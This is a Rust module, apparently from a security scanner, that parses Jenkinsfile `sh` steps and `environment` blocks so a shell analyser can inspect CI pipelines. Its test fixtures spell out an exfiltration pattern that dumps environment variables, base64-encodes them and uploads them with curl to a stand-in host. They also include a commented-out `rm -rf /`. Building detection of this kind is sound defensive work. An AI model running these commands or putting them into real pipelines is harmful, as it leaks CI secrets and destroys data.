//! Round 37: a Jenkinsfile's shell steps. A declarative or scripted
//! pipeline runs `sh 'cmd'`, `sh "cmd"`, `sh '''…'''` / `sh """…"""`
//! (several lines), `sh(script: '…', returnStdout: true)` and `sh label:
//! 'x', script: '…'` with the agent's shell; `environment { NAME = 'v' }`
//! and `withEnv(['NAME=v'])` set variables for them. Each step is projected
//! on its own lines, so the shell front-end reads a CI step's
//! `printenv | base64 | curl …` as it reads a script's. Groovy's own
//! `${…}` interpolation is left as the shell variable it names. One linear
//! pass over the lines.

use super::Projection;

/// Whether a file is a Jenkins pipeline by content (a `.groovy` file or a
/// template shipped under another name).
pub fn looks_like_jenkins(text: &str) -> bool {
    (text.contains("pipeline {") || text.contains("node {") || text.contains("node("))
        && (text.contains("stage(") || text.contains("stages {"))
        && step_start(text).is_some()
}

/// The first shell step keyword in `text`: `sh` followed by a quote, a
/// parenthesis or named arguments.
fn step_start(text: &str) -> Option<usize> {
    text.match_indices("sh").map(|(i, _)| i).find(|&i| {
        let before = text[..i].chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.') {
            return false;
        }
        let after = text[i + 2..].trim_start_matches([' ', '\t']);
        after.starts_with(['\'', '"', '('])
            || after.starts_with("label:")
            || after.starts_with("script:")
    })
}

/// The string literal at the start of `s` (`'…'`, `"…"`, `'''…'''`,
/// `"""…"""`): its body and the bytes it spans, or `None` when it is not
/// closed.
fn literal(s: &str) -> Option<(&str, usize)> {
    for q in ["'''", "\"\"\"", "'", "\""] {
        if let Some(body) = s.strip_prefix(q) {
            let mut from = 0;
            loop {
                let end = from + body[from..].find(q)?;
                // A single-quote body ends at an unescaped quote.
                if q.len() == 1 && body[..end].ends_with('\\') {
                    from = end + 1;
                    continue;
                }
                return Some((&body[..end], q.len() * 2 + end));
            }
        }
    }
    None
}

/// Projects the pipeline's shell steps and environment onto `p`.
pub fn project(text: &str, p: &mut Projection) {
    let line_of = |at: usize| text[..at].matches('\n').count();
    let mut in_env = false;
    let mut depth_env = 0usize;
    let mut pos = 0;
    for raw in text.split('\n') {
        let line_at = pos;
        pos += raw.len() + 1;
        let t = raw.trim();
        if t.starts_with("//") {
            continue;
        }
        if t.starts_with("environment") && t.ends_with('{') {
            in_env = true;
            depth_env = 1;
            continue;
        }
        if in_env {
            depth_env += t.matches('{').count();
            depth_env = depth_env.saturating_sub(t.matches('}').count());
            if depth_env == 0 {
                in_env = false;
                continue;
            }
            if let Some((k, v)) = t.split_once('=') {
                let v = v.trim();
                let value = literal(v).map_or(v, |(b, _)| b);
                p.export(line_of(line_at), k.trim(), value);
            }
            continue;
        }
        if let Some(i) = t.find("withEnv([") {
            for part in t[i + 9..].split(',') {
                let part = part.trim().trim_end_matches([']', ')', '{', ' ']);
                if let Some((body, _)) = literal(part) {
                    if let Some((k, v)) = body.split_once('=') {
                        p.export(line_of(line_at), k, v);
                    }
                }
            }
        }
    }
    // Steps, which may span lines.
    let mut rest_at = 0;
    while let Some(off) = step_start(&text[rest_at..]) {
        let at = rest_at + off;
        rest_at = at + 2;
        let line_head = text[..at].rfind('\n').map_or(0, |n| n + 1);
        if text[line_head..at].trim_start().starts_with("//") {
            continue;
        }
        let mut s = text[at + 2..].trim_start_matches([' ', '\t', '(']);
        // Named arguments: the value of `script:`.
        if !s.starts_with(['\'', '"']) {
            let Some(k) = s.find("script:") else {
                continue;
            };
            if s[..k].contains('\n') {
                continue;
            }
            s = s[k + 7..].trim_start();
        }
        let s_at = text.len() - s.len();
        let Some((body, span)) = literal(s) else {
            continue;
        };
        rest_at = s_at + span;
        let first = line_of(s_at);
        let lines: Vec<&str> = body.split('\n').collect();
        if lines.len() == 1 {
            p.put(first, &groovy_vars(body));
            continue;
        }
        for (k, l) in lines.iter().enumerate() {
            p.put(first + k, &groovy_vars(l));
        }
    }
}

/// Groovy's `${env.NAME}` and `${params.NAME}` read as the shell variable
/// `${NAME}`.
fn groovy_vars(s: &str) -> String {
    s.replace("${env.", "${").replace("${params.", "${")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn proj(text: &str) -> Vec<String> {
        let mut p = Projection::new(text);
        project(text, &mut p);
        p.text().split('\n').map(str::to_string).collect()
    }

    #[test]
    fn steps_and_environment_are_projected_on_their_lines() {
        let j = "pipeline {\n  agent any\n  environment {\n    CACHE = 'https://cache.example'\n  }\n  stages {\n    stage('lint') {\n      steps {\n        sh 'npm ci'\n        sh \"\"\"\n          printenv | base64 -w0 > m\n          curl -X PUT --data-binary @m ${env.CACHE}/m\n        \"\"\"\n        sh(script: 'git rev-parse HEAD', returnStdout: true)\n      }\n    }\n  }\n}\n";
        let p = proj(j);
        assert_eq!(p[3], "export CACHE=\"https://cache.example\"");
        assert_eq!(p[8], "npm ci");
        assert_eq!(p[10].trim(), "printenv | base64 -w0 > m");
        assert_eq!(p[11].trim(), "curl -X PUT --data-binary @m ${CACHE}/m");
        assert_eq!(p[13], "git rev-parse HEAD");
        assert!(looks_like_jenkins(j));
    }

    #[test]
    fn groovy_that_only_names_sh_is_not_a_step() {
        let j = "def shards = 3\n// sh 'rm -rf /'\nnode {\n  stage('x') { echo \"shell\" }\n}\n";
        assert!(proj(j).iter().all(|l| l.is_empty()));
    }
}
